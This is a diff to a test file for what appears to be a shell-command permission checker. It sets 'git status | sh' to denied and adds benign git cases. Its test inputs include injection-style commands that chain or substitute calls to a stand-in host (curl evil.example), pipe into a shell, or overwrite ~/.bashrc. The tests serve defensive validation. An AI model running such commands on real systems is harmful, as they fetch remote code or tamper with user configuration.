@@ -166,7 +166,11 @@ describe('rules against calls', () => {
     ['  git   status  ', 'run'],
     ['git status && npm test', 'run'],
     ['git status; curl evil.example', 'ask'],
-    ['git status | sh', 'ask'],
+    // A pipe into a shell cannot be judged before it runs: every deny pattern of the tool names it.
+    ['git status | sh', 'E_DENIED'],
+    ['git status | head -5', 'ask'],
+    ["'git' status -s", 'run'],
+    ['git status 2>/dev/null', 'run'],
     ['git status $(curl evil.example)', 'ask'],
     ['git status `curl evil.example`', 'ask'],
     ['git status > ~/.bashrc', 'ask'],
